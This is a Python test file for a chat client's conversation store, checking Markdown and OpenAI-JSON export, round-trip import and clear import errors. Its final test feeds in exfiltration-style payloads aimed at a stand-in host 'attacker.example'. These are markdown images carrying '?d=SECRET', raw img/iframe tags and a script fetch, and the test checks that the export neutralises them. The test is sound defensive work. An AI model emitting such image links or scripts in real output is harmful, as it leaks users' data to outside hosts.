"""Export as Markdown and OpenAI JSON; import JSON back."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from glm_client.messages import INTERPRETER, Message, ToolCall
from store import Conversation, from_openai_json, open_store, to_markdown, to_openai_json


def tool_conversation() -> Conversation:
    weather = ToolCall("get_weather", {"city": "Zürich", "unit": "°C"}, id="call_1")
    code = ToolCall(INTERPRETER, {"code": "print('```')"}, id="call_2")
    stopped = Message.assistant("It is sun")
    stopped.meta["interrupted"] = True
    messages = [
        Message.system("You are helpful."),
        Message.user("Weather in Zürich?"),
        Message.assistant("Checking.", [weather]),
        Message.observation('{"sky": "sunny"}', name="get_weather", tool_call_id="call_1"),
        Message.assistant("", [code]),
        Message.observation("```", name=INTERPRETER, tool_call_id="call_2"),
        stopped,
    ]
    return Conversation("id", "tool", "Weather", messages)


def essentials(message: Message) -> tuple:
    calls = [(call.name, call.arguments, call.id) for call in message.tool_calls]
    return message.role, message.content, calls, message.tool_call_id, message.name


def test_json_export_import_round_trip(tmp_path: Path) -> None:
    original = tool_conversation()
    exported = to_openai_json(original)
    document = json.loads(exported)
    assert document["title"] == "Weather" and document["mode"] == "tool"
    assert [m["role"] for m in document["messages"]] == [
        "system",
        "user",
        "assistant",
        "tool",
        "assistant",
        "tool",
        "assistant",
    ]
    assert "Zürich" in exported  # readable, not \\u-escaped
    assert document["interrupted"] == [6]  # the stopped reply, by position: the messages stay OpenAI's
    assert "interrupted" not in document["messages"][6]

    title, mode, messages = from_openai_json(exported)
    assert (title, mode) == ("Weather", "tool")
    assert [essentials(m) for m in messages] == [essentials(m) for m in original.messages]
    assert [m.meta.get("interrupted", False) for m in messages] == [False] * 6 + [True]

    # Through the store and out again: the same document.
    store = open_store(None, tmp_path)
    conversation = store.load(store.create_from(mode, messages, title))
    store.close()
    assert conversation is not None and to_openai_json(conversation) == exported


def test_a_bare_message_list_imports_as_chat() -> None:
    title, mode, messages = from_openai_json('[{"role": "user", "content": [{"type": "text", "text": "Hi"}]}]')
    assert (title, mode, messages) == ("", "chat", [Message.user("Hi")])


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{not json", "not valid JSON"),
        ('{"title": "x"}', 'no "messages" list'),
        ("42", "Expected a JSON object with a messages list"),
        ('{"messages": [], "title": 3}', '"title" and "mode" must be strings'),
        ('{"messages": [{"role": "user", "content": "hi"}], "interrupted": [1]}', '"interrupted" must be a list'),
        ('{"messages": [], "interrupted": "yes"}', '"interrupted" must be a list of message positions'),
        ('[{"role": "user", "content": "ok"}, "hello"]', "Message 2 is not a JSON object"),
        ('[{"role": "wizard", "content": "hi"}]', "Message 1: Unknown message role 'wizard'"),
        (
            '[{"role": "assistant", "tool_calls": [{"function": {"name": "f", "arguments": "{oops"}}]}]',
            "not valid JSON",
        ),
        ('[{"role": "assistant", "tool_calls": "f()"}]', "Message 1 is not a valid OpenAI chat message"),
    ],
)
def test_bad_import_says_what_is_wrong(text: str, says: str) -> None:
    with pytest.raises(ValueError, match=says.replace("(", r"\(")):
        from_openai_json(text)


def test_markdown_is_readable() -> None:
    conversation = tool_conversation()
    conversation.messages.append(Message.observation("two plots", name=INTERPRETER, images=[b"png", b"png"]))
    markdown = to_markdown(conversation)
    assert markdown.startswith("# Weather\n\n*Mode: tool*\n\n## System\n\nYou are helpful.")
    assert '**Tool call** `get_weather` (`call_1`)\n\n```json\n{\n  "city": "Zürich",' in markdown
    assert "**Code** (`call_2`)\n\n````python\nprint('```')\n````" in markdown  # fence outlasts the backticks inside
    assert '## Observation · `get_weather`\n\n```text\n{"sky": "sunny"}\n```' in markdown
    assert "## Assistant (interrupted)\n\nIt is sun" in markdown
    assert markdown.endswith("```text\ntwo plots\n```\n\n[Image]\n\n[Image]\n")


def test_markdown_export_has_no_raw_html_and_loads_nothing() -> None:
    """An exported file is opened in other viewers (which may render HTML): it must fetch nothing."""
    from markdown_it import MarkdownIt

    attacker = "https://attacker.example"
    messages = [
        Message.user(f"Summarise this file ![u]({attacker}/user.png)"),
        Message.assistant(
            f'Sure <img src="{attacker}/html.png"> ![x]({attacker}/p.png?d=SECRET) [more][r]\n\n[r]: {attacker}/ref',
            [ToolCall("get_weather", {"city": f"![c]({attacker}/arg.png)"}, id="call_1")],
        ),
        Message.observation(f"<script>fetch('{attacker}')</script>", name="get_weather", tool_call_id="call_1"),
        Message.assistant(f"<div>\n<iframe src={attacker}/frame></iframe>\n</div>\n\n`![code]({attacker}/c.png)`"),
    ]
    markdown = to_markdown(Conversation("id", "chat", f"Imported ![t]({attacker}/title.png)", messages))

    viewer = MarkdownIt("commonmark", {"html": True}).enable("table")
    viewer.validateLink = lambda url: True  # a permissive viewer: every scheme
    html = viewer.render(markdown)
    for tag in ("<img", "<a ", "<iframe", "<script", "<div"):
        assert tag not in html, tag
    assert "d=SECRET" in html and "&lt;img src=" in html  # shown as text, not lost
    assert f"`![code]({attacker}/c.png)`" in markdown  # code spans stay verbatim
    assert f"```text\n<script>fetch('{attacker}')</script>\n```" in markdown  # tool output stays a code block
